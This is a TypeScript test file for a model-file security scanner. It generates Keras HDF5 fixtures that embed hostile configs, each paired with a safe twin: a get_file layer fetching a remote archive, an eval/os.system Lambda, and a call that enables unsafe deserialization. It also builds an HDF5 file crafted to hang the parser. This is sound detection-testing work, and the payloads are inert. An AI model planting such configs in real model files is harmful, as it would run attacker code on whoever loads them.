import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { execFileSync, type ChildProcess } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { scan } from '../../src/index.js';
import { HDF5_MAX_CONFIG_CHARS } from '../../src/formats/keras-h5.js';
import { manifestTests } from './manifest-cases.js';
import { FIXTURES } from '../helpers/fixtures.js';
import { startHogs, stopHogs } from '../helpers/hogs.js';

// Legacy HDF5 Keras models and plain HDF5 files: every keras/*.h5 fixture.
manifestTests('keras/', undefined, /^(?!.*\.h5$)/);

test('a model_config attribute declared beyond the cap is judged from its metadata, never read', async () => {
  // Generated here rather than committed: it is ~64 MB. h5py (Debian python3-h5py) writes it.
  const dir = mkdtempSync(join(tmpdir(), 'mg-h5big-'));
  try {
    const file = join(dir, 'big_config.h5');
    execFileSync('/usr/bin/python3', ['-c', [
      'import h5py, json, numpy as np, sys',
      `pad = 'x' * (${HDF5_MAX_CONFIG_CHARS} + 1024)`,
      "s = json.dumps({'class_name': 'Sequential', 'config': {'layers': [], 'pad': pad}}).encode()",
      "f = h5py.File(sys.argv[1], 'w', libver='latest')",
      "f.attrs.create('model_config', np.array(s, dtype='S%d' % len(s)))",
      "f.attrs['keras_version'] = '2.13.1'",
      'f.close()',
    ].join('\n'), file]);
    const f = (await scan(file)).files[0]!;
    assert.is(f.verdict, 'suspicious');
    const finding = f.findings.find((x) => x.rule === 'keras/config-too-large');
    assert.ok(finding, JSON.stringify(f.findings));
    assert.match(finding!.message, /declares \d+ bytes/, 'decided from the declared size, before reading');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

/**
 * Writes legacy HDF5 models with h5py exactly as tf.keras 2 / Keras 3 `legacy_h5_format` write them:
 * `model_config` and `training_config` as UTF-8 JSON bytes (HDF5 fixed-length strings), `keras_version`
 * and `backend` as bytes, and a `model_weights` group.
 */
function writeKerasH5(dir: string, models: Record<string, { model: unknown; training?: unknown }>): void {
  execFileSync('/usr/bin/python3', ['-c', [
    'import h5py, json, os, sys',
    'spec = json.loads(sys.stdin.read())',
    'for name, m in spec.items():',
    "    with h5py.File(os.path.join(sys.argv[1], name), 'w') as f:",
    "        f.attrs['keras_version'] = '2.15.0'.encode('utf8')",
    "        f.attrs['backend'] = 'tensorflow'.encode('utf8')",
    "        f.attrs['model_config'] = json.dumps(m['model']).encode('utf8')",
    "        if m.get('training') is not None: f.attrs['training_config'] = json.dumps(m['training']).encode('utf8')",
    "        g = f.create_group('model_weights')",
    "        g.attrs['layer_names'] = [b'dense']",
    "        g.create_group('dense').create_dataset('dense/kernel:0', data=[[0.0, 1.0]] * 4)",
  ].join('\n'), dir], { input: JSON.stringify(models) });
}

const layer = (className: string, config: Record<string, unknown>, module = 'keras.layers') => ({ module, class_name: className, config, registered_name: null });
const model = (...layers: unknown[]) => ({ class_name: 'Sequential', config: { name: 'sequential', layers: [layer('InputLayer', { batch_input_shape: [null, 4], name: 'in' }), ...layers] } });
const dense = layer('Dense', { name: 'dense', units: 2, activation: 'relu' });
const fn = (module: string, name: string) => ({ module, class_name: 'function', config: name, registered_name: 'function' });
const compile = (loss: unknown) => ({ loss, metrics: ['accuracy'], optimizer_config: { class_name: 'Adam', config: { learning_rate: 0.001 } } });

test('legacy HDF5 models written by h5py: each malicious config with its not-flagged twin', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'mg-kerash5-'));
  try {
    const cases: Array<[string, { model: unknown; training?: unknown }, string, string | undefined]> = [
      ['get-file.h5', { model: model(dense, layer('get_file', { fname: 'x', origin: 'http://192.0.2.1/x.tgz', extract: true }, 'keras.utils')) }, 'malicious', 'keras/dangerous-function'],
      ['get-file-twin.h5', { model: model(dense, layer('Dropout', { name: 'drop', rate: 0.1 })) }, 'safe', undefined],
      ['unsafe-mode.h5', { model: model(layer('Lambda', { name: 'off', function: fn('keras.config', 'enable_unsafe_deserialization') }), layer('Lambda', { name: 'l', function: "lambda x: eval('1')", function_type: 'lambda', module: '__main__' })) }, 'malicious', 'keras/dangerous-function'],
      ['unsafe-mode-twin.h5', { model: model(layer('Lambda', { name: 'ok', function: fn('keras.src.ops.numpy', 'square') }), layer('Lambda', { name: 'l', function: 'add', function_type: 'function', module: 'keras.src.ops.numpy' })) }, 'safe', undefined],
      ['source-lambda.h5', { model: model(layer('Lambda', { name: 'l', function: "lambda x: eval(\"__import__('os').system('echo modelguard-fixture')\")" })) }, 'malicious', 'keras/lambda-layer'],
      ['training-loss.h5', { model: model(dense), training: compile(fn('keras.utils', 'get_file')) }, 'malicious', 'keras/dangerous-function'],
      ['training-loss-twin.h5', { model: model(dense), training: compile(fn('keras.losses', 'mean_squared_error')) }, 'safe', undefined],
      ['foreign.h5', { model: model(layer('MyLayer', { name: 'm' }, 'my_package.layers')) }, 'suspicious', 'keras/foreign-module'],
    ];
    writeKerasH5(dir, Object.fromEntries(cases.map(([n, m]) => [n, m])));
    for (const [name, , verdict, rule] of cases) {
      const f = (await scan(join(dir, name))).files[0]!;
      const rules = f.findings.map((x) => `${x.rule}:${x.verdict}`);
      assert.is(f.format, 'keras-h5', name);
      assert.is(f.verdict, verdict, `${name}: ${rules.join(', ')}`);
      if (rule) assert.ok(f.findings.some((x) => x.rule === rule), `${name}: ${rules.join(', ')}`);
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

/**
 * Issue 13: an HDF5 file on which h5wasm loops forever (found by fuzzing the fixtures). It is
 * legacy-dense.h5 with one field changed: the object header message after the model_config
 * attribute is a NIL message of 3864 bytes (header `00 00 | 18 0f | 00 | 00 00 00`); with its
 * size set to 0 the library never finishes reading the root group's attributes. Before, the scan
 * blocked the event loop for good; now the read runs on a worker that is stopped at the deadline.
 */
function loopingHdf5(): Buffer {
  const b = Buffer.from(readFileSync(join(FIXTURES, 'formats', 'keras', 'legacy-dense.h5')));
  const nil = Buffer.from([0x00, 0x00, 0x18, 0x0f, 0x00, 0x00, 0x00, 0x00]);
  const at = b.indexOf(nil, b.indexOf(Buffer.from('"units": 2}}]}}')));
  assert.ok(at > 0 && b.indexOf(nil, at + 1) < 0, 'the NIL message after model_config is where the fixture has it');
  b.writeUInt16LE(0, at + 2);
  return b;
}

/** A short deadline for the hostile file (the worker's start-up has its own, longer one). */
const HANG_SCAN_MS = 3000;

function h5TempDirs(): string[] {
  return readdirSync(tmpdir()).filter((n) => n.startsWith('modelguard-h5-'));
}

test('an HDF5 file on which h5wasm loops gets an error verdict with a timed-out finding, and the next file is still read', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'mg-h5loop-'));
  try {
    const file = join(dir, 'loop.h5');
    writeFileSync(file, loopingHdf5());
    const good = join(FIXTURES, 'formats', 'keras', 'legacy-lambda.h5');
    const r = await scan([good, file, good].map((p) => p), { limits: { maxScanMs: HANG_SCAN_MS } });
    const [before, hostile, after] = r.files;
    assert.is(before?.verdict, 'malicious');
    assert.is(hostile?.verdict, 'error', JSON.stringify(hostile?.findings));
    const f = hostile?.findings.find((x) => x.rule === 'hdf5/timeout');
    assert.ok(f, JSON.stringify(hostile?.findings));
    assert.match(f!.message, /timed out/);
    assert.is(after?.verdict, 'malicious', 'a fresh worker reads the next file');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

// Issue 13: the parser worker's deadline is CPU time of its thread, so CPU hogs beside the scan do
// not stop h5wasm early (a wall-clock deadline would, after far less CPU), and the verdict is the
// same as on an idle machine. Asserted by CPU time, never wall time.
test('beside CPU hogs, the looping HDF5 is stopped only after its parser thread used the whole CPU budget', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'mg-h5loop-'));
  const hogs: ChildProcess[] = [];
  try {
    const file = join(dir, 'loop.h5');
    writeFileSync(file, loopingHdf5());
    // The shared parser worker starts (and loads h5wasm, off this budget) on a good file first.
    const good = join(FIXTURES, 'formats', 'keras', 'legacy-lambda.h5');
    assert.is((await scan(good)).files[0]?.verdict, 'malicious');
    hogs.push(...startHogs());
    const before = process.cpuUsage();
    const r = await scan(file, { limits: { maxScanMs: HANG_SCAN_MS } });
    const d = process.cpuUsage(before);
    const used = (d.user + d.system) / 1000;
    assert.ok((await stopHogs(hogs.splice(0))) > 0, 'the hogs ran beside the scan');
    const f = r.files[0]?.findings.find((x) => x.rule === 'hdf5/timeout');
    assert.ok(f, JSON.stringify(r.files[0]?.findings));
    assert.match(f!.message, /timed out.*CPU time/);
    assert.is(r.files[0]?.verdict, 'error');
    assert.ok(used >= HANG_SCAN_MS - 20, `this process used ${used} ms of CPU during the scan; the parser's budget was ${HANG_SCAN_MS} ms`);
  } finally {
    await stopHogs(hogs);
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the looping HDF5 nested in a tar leaves no modelguard-h5-* folder behind when its worker is stopped', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'mg-h5loop-'));
  const dirsBefore = h5TempDirs();
  try {
    writeFileSync(join(dir, 'loop.h5'), loopingHdf5());
    execFileSync('tar', ['-cf', join(dir, 'model.tar'), '-C', dir, 'loop.h5']);
    const r = await scan(join(dir, 'model.tar'), { limits: { maxScanMs: HANG_SCAN_MS } });
    const file = r.files[0]!;
    assert.is(file.verdict, 'error', JSON.stringify(file.findings));
    assert.ok(file.findings.some((x) => x.rule === 'hdf5/timeout'), JSON.stringify(file.findings));
    assert.equal(h5TempDirs(), dirsBefore);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test.run();
